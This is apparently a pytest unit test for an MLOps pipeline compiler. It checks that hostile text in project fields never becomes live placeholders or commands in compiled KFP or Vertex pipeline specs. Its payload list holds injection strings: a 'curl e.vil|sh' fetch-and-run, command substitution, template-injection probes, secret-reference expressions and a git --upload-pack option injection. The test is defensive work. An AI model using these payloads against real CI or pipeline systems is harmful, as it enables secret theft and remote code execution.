"""Hostile text in every field of a project: no placeholder but the compiler's own, and the same shape."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mlopsctl.orchestrators.ir.contract import PLACEHOLDERS
from mlopsctl.step.portable import decode_step
from tests.unit.orchestrators.ir.compiled import arguments, command, documents, project

PAYLOADS = (
    "${{ secrets.PROD_KEY }}", "${{ github.token }}", "{{ conn.prod.password }}", "{% for x in y %}", "{# x #}",
    "{{ ''.__class__.__mro__ }}", "; curl e.vil|sh", "$(id)", "`id`", "a && b", "*", "trailing \\",
    "--config=/tmp/e.cfg", "--upload-pack=touch /tmp/p", "$PROJECT_ID", "${_SECRET}", "$$",
    "{{$.inputs.parameters['x']}}", "{{$}}", "{{$.pipeline_job_uuid}}", "{{workflow.parameters.p}}",
    "{{inputs.artifacts.x}}", '{"Concat": ["a"]}', '{"IfPresent": {}}', "a\n---\nb: c", '"}]}', "' or '1'=='1",
    "Train_Model", "/kfp-workspace",
)  # fmt: skip


def hostile(text: str) -> dict[str, Any]:
    """A project with the text in every field that takes any; ``$`` of the language itself is written twice."""
    written = text.replace("$", "$$")
    return {
        "owner": written,
        "description": written,
        "vars": {"v": written},
        "data": {
            "rows": {
                "source": {"kind": "python", "entrypoint": "rows:load", "params": {"p": written, "k": [written]}},
                "label": "y",
                "positive": written,
            }
        },
        "components": {
            "one": command(
                run={"kind": "command", "command": ["work", "x" if "{inputs." in text else written]},
                description=written,
                parameters={"p": written, "v": "${vars.v}", "nested": {"list": [written, {"k": written}]}},
            )
        },
        "training": {
            "task": "classification",
            "targets": {
                "t": {"kind": "sklearn", "estimator": "sklearn.svm.SVC", "params": {"kernel": written}},
            },
        },
        "notify": [{"kind": "webhook", "url": "https://hooks.example.com", "headers": {"X-Text": written}}],
    }


def compiled(folder: Path, text: str, engine: str) -> list[dict[str, Any]]:
    (folder / "rows.py").write_text("def load(p, k):\n    return None\n")
    return documents(project(folder, engine, **hostile(text)))


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory, engine: str) -> list[dict[str, Any]]:
    return compiled(tmp_path_factory.mktemp("harmless"), "harmless", engine)


@pytest.mark.parametrize("engine", ["kfp", "vertex"], scope="module")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_placeholder_but_ours_and_the_shape_of_harmless_text(
    tmp_path: Path, harmless: list[dict[str, Any]], payload: str, engine: str
) -> None:
    found = compiled(tmp_path, payload, engine)
    assert placeholders(found) == placeholders(harmless)
    assert {text for _, text in placeholders(found)} <= PLACEHOLDERS
    assert shape(found) == shape(harmless)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_step_is_told_the_text_as_it_was_written(tmp_path: Path, payload: str) -> None:
    (spec, *_) = compiled(tmp_path, payload, "kfp")
    step = decode_step(arguments(spec, "exec-one")[1]).step
    assert step.parameters["parameters"] == {
        "p": payload,
        "v": payload,
        "nested": {"list": [payload, {"k": payload}]},
    }


def placeholders(value: object, path: tuple[object, ...] = ()) -> list[tuple[tuple[object, ...], str]]:
    """Every text that an engine may read as one, with its place."""
    return [(at, text) for at, text in texts(value, path) if "{{" in text or "$" in text]


def texts(value: object, path: tuple[object, ...]) -> Iterator[tuple[tuple[object, ...], str]]:
    if isinstance(value, str):
        yield path, value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield (*path, "key"), key
            yield from texts(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from texts(item, (*path, index))


def shape(value: object) -> object:
    """The same with every text that is not a key left out."""
    if isinstance(value, dict):
        return {key: shape(item) for key, item in value.items()}
    if isinstance(value, list):
        return [shape(item) for item in value]
    return type(value)
